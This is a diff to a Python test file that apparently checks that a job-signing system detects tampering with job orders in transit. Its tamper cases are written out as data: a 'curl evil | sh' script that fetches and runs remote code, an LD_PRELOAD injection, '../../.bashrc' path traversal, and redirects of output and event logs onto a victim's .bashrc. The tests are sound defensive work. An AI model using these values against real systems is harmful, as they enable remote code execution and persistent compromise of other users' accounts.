@@ -50,16 +50,16 @@ def test_what_is_signed_is_what_the_node_is_ordered_to_run(world: World, job: di
 
 @pytest.mark.parametrize(("field", "change"), [
     ("script", lambda o: setattr(o, "script", "curl evil | sh\n")),
-    ("workdir", lambda o: o.config.__setitem__("workdir", "/root")),
+    ("workdir", lambda o: o.config["job"].__setitem__("workdir", "/root")),
     ("environment", lambda o: o.config["environment"].__setitem__("LD_PRELOAD", "/tmp/x.so")),
-    ("prolog", lambda o: o.config.__setitem__("job_prolog", "evil")),
-    ("epilog", lambda o: o.config.__setitem__("job_epilog", "evil")),
+    ("prolog", lambda o: o.config["job"].__setitem__("prolog", "evil")),
+    ("epilog", lambda o: o.config["job"].__setitem__("epilog", "evil")),
     ("name", lambda o: o.config.__setitem__("name", "../../.bashrc")),
     ("stage_in", lambda o: o.stage_in.append(File(".bashrc", b"evil", 0o644))),
-    ("stage_out", lambda o: o.config["stage_out"].append("*")),
-    ("output pattern", lambda o: o.config.__setitem__("output_pattern", "../.profile")),
-    ("event log", lambda o: o.config.__setitem__("event_log", "/home/victim/.bashrc")),
-    ("no event log", lambda o: o.config.__setitem__("event_log", None)),
+    ("stage_out", lambda o: o.config["job"]["stage_out"].append("*")),
+    ("output pattern", lambda o: o.config["job"].__setitem__("output", "../.profile")),
+    ("event log", lambda o: o.config["job"].__setitem__("event_log", "/home/victim/.bashrc")),
+    ("no event log", lambda o: o.config["job"].__setitem__("event_log", None)),
 ])
 def test_a_change_on_the_way_is_seen(world: World, field: str, change: Any) -> None:  # noqa: F811
     job = JOBS[1]
@@ -78,6 +78,9 @@ def test_an_output_file_elsewhere_than_its_pattern_says_is_seen(world: World) ->
     moved = copy.deepcopy(order)
     moved.config["stdout"] = "/home/someone/.bashrc"
     assert not outputs_as_signed(moved)
+    elsewhere = copy.deepcopy(order)  # the working directory the node runs in, not the one signed
+    elsewhere.config["workdir"] = "/root"
+    assert not outputs_as_signed(elsewhere)
 
 
 def test_a_done_output_file_changed_or_added_on_the_way_is_seen(world: World) -> None:  # noqa: F811
@@ -91,7 +94,7 @@ def test_a_done_output_file_changed_or_added_on_the_way_is_seen(world: World) ->
     moved.config["done_output"] = "/home/victim/.bashrc"
     assert not outputs_as_signed(moved)
     repatterned = copy.deepcopy(order)
-    repatterned.config["done_output_pattern"] = "../.bashrc"
+    repatterned.config["job"]["done_output"] = "../.bashrc"
     assert job_digest(signed_order(repatterned)) != job_digest(signed_request(job))
     (plain,) = _submitted(world, JOBS[0])
     added = copy.deepcopy(plain)
@@ -104,7 +107,7 @@ def test_an_event_log_added_on_the_way_is_seen(world: World) -> None:  # noqa: F
     world.connect()
     (order,) = _submitted(world, job)
     changed = copy.deepcopy(order)
-    changed.config["event_log"] = "/home/victim/.bashrc"
+    changed.config["job"]["event_log"] = "/home/victim/.bashrc"
     assert job_digest(signed_order(changed)) != job_digest(signed_request(job))
 
 
